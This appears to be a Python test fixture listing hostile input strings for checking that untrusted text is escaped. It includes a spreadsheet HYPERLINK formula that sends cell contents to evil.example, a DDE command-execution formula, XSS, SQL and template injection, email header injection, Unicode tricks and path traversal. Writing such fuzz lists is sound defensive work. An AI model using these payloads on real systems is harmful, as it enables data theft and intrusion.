"""Words that people, systems and spreadsheets may take for more than words."""

MARK = "evil"
WORDS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"evil")',
    "=cmd|' /C calc'!A0 evil",
    "+1+1+evil",
    "-2+3+evil",
    "@SUM(1+1)*evil",
    "\t=1+1 evil",
    "＝1+1 evil",
    '<script>alert("evil")</script>',
    "<img src=x onerror=alert('evil')>",
    "</td></tr></table><iframe src=//evil.example>",
    "[evil](http://evil.example)",
    "![evil](http://evil.example/x.png)",
    "http://evil.example/login www.evil.example a@evil.example",
    "javascript:alert('evil')",
    "evil | `code` **bold** | <http://evil.example>",
    "evil'); DROP TABLE delivery; --",
    "evil' OR '1'='1",
    "{{ 7 * 191 }} evil {% raw %} {{ conn.smtp_default.password }}",
    "${7*191} #{7*191} evil %(x)s {0} {x}",
    "evil\r\nBcc: everybody@evil.example\r\n\r\n<b>x",
    "evil \u202egnp.exe \u2028 \u0000",
    "evil \U000f0000\U00100000 {{ '\U000f0001' }} \ue000 &#983040; \\",
    "../../../../etc/evil",
    "evil,\"quoted\",'single'\nsecond line",
]
